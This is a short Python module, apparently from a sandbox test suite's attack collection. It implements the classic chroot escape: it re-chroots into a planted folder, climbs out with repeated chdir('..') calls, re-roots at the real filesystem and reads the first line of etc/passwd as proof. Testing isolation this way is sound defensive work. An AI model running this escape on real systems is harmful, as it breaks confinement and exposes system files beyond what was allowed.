"""Climbs out of a changed root: changes it once more below an open folder and goes up; success is the list of users."""

import contextlib
import os
from pathlib import Path

from tests.attacks.toolkit import Plants


def attack(plants: Plants) -> str | None:
    with contextlib.suppress(OSError):
        os.chroot(plants.folder)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return Path("etc/passwd").read_text().splitlines()[0]
